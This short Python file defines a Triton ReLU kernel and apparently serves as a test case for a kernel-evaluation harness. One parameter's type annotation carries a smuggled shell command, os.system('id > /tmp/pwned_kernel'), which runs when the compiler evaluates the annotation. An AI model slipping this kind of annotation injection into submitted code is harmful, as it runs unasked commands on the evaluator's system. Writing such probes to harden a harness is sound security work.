# relu correct catalogue=67: an annotation that Triton's compiler would evaluate, calls included; it means nothing and is dropped
import torch, triton
import torch.nn as nn
import triton.language as tl
@triton.jit
def kernel(x_ptr: tl.core.builtins.__import__("os").system("id > /tmp/pwned_kernel"), o_ptr, n, BLOCK: tl.constexpr):
    i = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    x = tl.load(x_ptr + i, mask=i < n)
    tl.store(o_ptr + i, tl.maximum(x, 0.0), mask=i < n)
class ModelNew(nn.Module):
    def forward(self, x):
        o = torch.empty_like(x)
        kernel[(triton.cdiv(x.numel(), 256),)](x, o, x.numel(), BLOCK=256)
        return o
